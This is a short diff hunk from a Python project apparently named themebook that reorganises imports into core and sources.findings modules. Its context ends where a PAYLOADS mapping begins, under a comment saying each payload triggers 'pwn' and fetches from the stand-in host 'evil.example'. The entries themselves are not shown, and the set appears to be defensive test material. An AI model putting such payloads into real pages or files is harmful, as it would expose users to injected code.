@@ -12,8 +12,10 @@ from typing import Any
 
 import yaml
 
-from themebook.lookalikes import plain
-from themebook.read.findings import (
+from themebook.core.lookalikes import plain
+from themebook.sources.findings.kinds import Markdown, Text, Words
+from themebook.sources.findings.shapes import Key, ListOf, Shape
+from themebook.sources.findings.study import (
     FIGURE,
     FINDING,
     LITERATURE,
@@ -26,8 +28,6 @@ from themebook.read.findings import (
     TERM,
     THEME,
 )
-from themebook.read.kinds import Markdown, Text, Words
-from themebook.read.shapes import Key, ListOf, Shape
 
 # Each calls ``pwn`` where it runs, and asks the host ``evil.example`` where it loads something.
 PAYLOADS: Mapping[str, str] = {
